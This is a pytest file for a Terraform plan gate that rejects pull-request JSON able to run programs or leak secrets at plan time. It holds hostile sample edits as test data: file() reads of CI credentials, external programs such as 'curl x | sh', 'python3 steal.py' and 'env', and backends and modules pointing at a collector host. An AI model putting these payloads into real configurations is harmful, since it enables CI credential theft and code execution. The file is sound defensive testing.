"""The plan gate: a PR's synthesized JSON is planned with a credential only if it can neither
run a program nor print a file or a token at plan time.

First, real terraform shows the threat: a plain `terraform plan` of a document with
`${file(...)}` prints the file. Then a table of hostile edits of the session's synthesized
stacks, each refused with a reason, and legitimate changes that pass.
"""

from __future__ import annotations

import copy
import json
import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tpuserve.review.gate import main, problems, template_expressions

TERRAFORM = shutil.which("terraform")
CANARY = "gha-creds-canary-5be1"


@pytest.mark.skipif(TERRAFORM is None, reason="terraform is not installed")
def test_terraform_plan_prints_a_file_the_json_names(tmp_path: Path) -> None:
    """Why the gate exists: plan evaluates templates, and file() reads the runner's disk."""
    creds = tmp_path / "gha-creds.json"
    creds.write_text(CANARY)
    base = {"resource": {"terraform_data": {"x": {"input": "harmless"}}}}
    pr = {"resource": {"terraform_data": {"x": {"input": f'${{file("{creds}")}}'}}}}
    work = tmp_path / "stack"
    work.mkdir()
    (work / "main.tf.json").write_text(json.dumps(pr))
    env = {**os.environ, "CHECKPOINT_DISABLE": "1", "TF_IN_AUTOMATION": "1"}
    run = {"cwd": work, "env": env, "capture_output": True, "text": True, "check": True}
    subprocess.run([TERRAFORM, "init", "-input=false", "-no-color"], **run)
    plan = subprocess.run([TERRAFORM, "plan", "-input=false", "-no-color", "-lock=false"], **run)
    assert CANARY in plan.stdout  # the threat is real
    [why] = problems(pr, base, [base])
    assert "template '${file(" in why and "neither a plain reference" in why


def _set(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def edit(doc: dict[str, Any]) -> None:
        *parents, last = path.split("/")
        node = doc
        for key in parents:
            node = node[int(key)] if isinstance(node, list) else node.setdefault(key, {})
        node[last] = value
    return edit


HOSTILE: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
    ("file-in-input", _set("resource/terraform_data/queued_resource/input/name",
                           '${file("/home/runner/work/gha-creds.json")}'), "template '${file("),
    ("nonsensitive", _set("output/leak", {"value": "${nonsensitive(data.x.y.token)}"}),
     "template '${nonsensitive("),
    ("directive", _set("output/leak", {"value": "%{ for f in fileset(\"/\", \"*\") }x%{ endfor }"}),
     "template '%{ for"),
    ("template-in-a-key", _set("resource/terraform_data/queued_resource/input/${file(\"/x\")}",
                               "v"), "template '${file("),
    ("unbalanced", _set("output/leak", {"value": '${file("/x")'}), "template '${file("),
    ("client-config", _set("data/google_client_config/me", {}),
     "data source type 'google_client_config'"),
    ("external-program", _set("data/external/qr_probe/program", ["sh", "-c", "curl x | sh"]),
     "data.external.qr_probe: its program"),
    ("external-working-dir", _set("data/external/qr_probe/working_dir", "/tmp/evil"),
     "data.external.qr_probe: its program"),
    ("second-external", _set("data/external/other", {"program": ["python3", "steal.py"]}),
     "data.external.other: its program"),
    ("custom-endpoint", _set("provider/google-beta/0/compute_custom_endpoint",
                             "https://collector.invalid/"), "the 'provider' block differs"),
    ("provider-credentials", _set("provider/google-beta/0/credentials", "/tmp/other.json"),
     "the 'provider' block differs"),
    ("http-backend", _set("terraform/backend", {"http": {"address": "https://collector.invalid"}}),
     "the 'terraform' block differs"),
    ("extra-provider", _set("terraform/required_providers/evil", {"source": "evil/evil"}),
     "the 'terraform' block differs"),
    ("module", _set("module/m", {"source": "git::https://collector.invalid/m.git"}),
     "top-level block 'module'"),
    ("check-block", _set("check/c", {"data": {}}), "top-level block 'check'"),
    ("locals", _set("locals", {"a": "b"}), "top-level block 'locals'"),
    ("other-provider-type", _set("resource/local_file/f", {"filename": "x", "content": "y"}),
     "resource type 'local_file'"),
    ("unknown-provider-alias", _set("resource/google_storage_bucket/cache_bucket/provider",
                                    "evil.alias"), "provider 'evil.alias'"),
    ("depends-on-call", _set("resource/terraform_data/queued_resource/depends_on",
                             ['file("/x")']), "is not a plain reference"),
]

LEGIT: list[tuple[str, Callable[[dict[str, Any]], None]]] = [
    ("changed-attribute", _set("resource/google_compute_firewall/firewall_ssh/description",
                               "a new description")),
    ("new-resource", _set("resource/google_compute_firewall/extra",
                          {"name": "x", "network": "${google_compute_network.net.id}"})),
    ("escaped-template", _set("resource/terraform_data/queued_resource/input/name",
                              '$${file("/x")} and %%{ if }')),
    ("base-expression-reused", _set("output/body",
                                    {"value": "${base64gzip(jsonencode(self.input.body))}"})),
    ("new-query", _set("data/external/qr_probe/query", {"name": "another-name"})),
]


@pytest.fixture(scope="module")
def flex(synthesized: dict[str, dict[str, Any]]) -> dict[str, Any]:
    return synthesized["flex"]


def test_the_base_itself_passes(synthesized: dict[str, dict[str, Any]]) -> None:
    for name, doc in synthesized.items():
        assert problems(doc, doc, list(synthesized.values())) == [], name


@pytest.mark.parametrize(("edit", "reason"), [h[1:] for h in HOSTILE], ids=[h[0] for h in HOSTILE])
def test_hostile_documents_are_refused(
    flex: dict[str, Any], synthesized: dict[str, dict[str, Any]],
    edit: Callable[[dict[str, Any]], None], reason: str,
) -> None:
    pr = copy.deepcopy(flex)
    edit(pr)
    found = problems(pr, flex, list(synthesized.values()))
    assert any(reason in p for p in found), found


@pytest.mark.parametrize("edit", [lg[1] for lg in LEGIT], ids=[lg[0] for lg in LEGIT])
def test_ordinary_changes_pass(
    flex: dict[str, Any], synthesized: dict[str, dict[str, Any]],
    edit: Callable[[dict[str, Any]], None],
) -> None:
    pr = copy.deepcopy(flex)
    edit(pr)
    assert problems(pr, flex, list(synthesized.values())) == []


def test_template_expressions_follow_terraform_escapes() -> None:
    text = 'a ${x.y} $${lit} %%{lit} ${f(g("}"))} %{ if c }'
    assert list(template_expressions(text)) == ["${x.y}", '${f(g("}', "%{ if c }"]


def test_gate_writes_passing_stacks_and_reports_the_rest(
    tmp_path: Path, synth_dir: Path, flex: dict[str, Any]
) -> None:
    pr = tmp_path / "pr"
    for name in ("spot", "flex", "brand-new"):
        (pr / "stacks" / name).mkdir(parents=True)
    shutil.copy(synth_dir / "stacks" / "spot" / "cdk.tf.json", pr / "stacks" / "spot")
    evil = copy.deepcopy(flex)
    evil["data"]["external"]["qr_probe"]["program"] = ["sh", "-c", "env"]
    (pr / "stacks" / "flex" / "cdk.tf.json").write_text(json.dumps(evil))
    (pr / "stacks" / "brand-new" / "cdk.tf.json").write_text(json.dumps({}))
    # A second "data" key: json.loads would keep only the last, Terraform reads both.
    (pr / "stacks" / "ondemand-dup").mkdir()
    spot = (synth_dir / "stacks" / "spot" / "cdk.tf.json").read_text()
    (pr / "stacks" / "ondemand-dup" / "cdk.tf.json").write_text(
        spot[:-1] + ', "data": {"external": {"x": {"program": ["env"]}}}, "data": {}}')
    # A link and a name cdktf never writes are not stacks.
    (pr / "stacks" / "ondemand").symlink_to(synth_dir / "stacks" / "ondemand")
    (pr / "stacks" / "Bad..name").mkdir()
    gated, reports = tmp_path / "gated", tmp_path / "reports"
    assert main([str(synth_dir), str(pr), str(gated), str(reports)]) == 0
    assert sorted(p.name for p in (gated / "stacks").iterdir()) == ["spot"]
    assert json.loads((gated / "stacks" / "spot" / "cdk.tf.json").read_text()) == json.loads(
        (synth_dir / "stacks" / "spot" / "cdk.tf.json").read_text())
    assert sorted(p.name for p in reports.iterdir()) == [
        "brand-new.txt", "flex.txt", "ondemand-dup.txt"]
    assert "duplicate key 'data'" in (reports / "ondemand-dup.txt").read_text()
    assert "data.external.qr_probe: its program" in (reports / "flex.txt").read_text()
    assert "the base branch does not have" in (reports / "brand-new.txt").read_text()
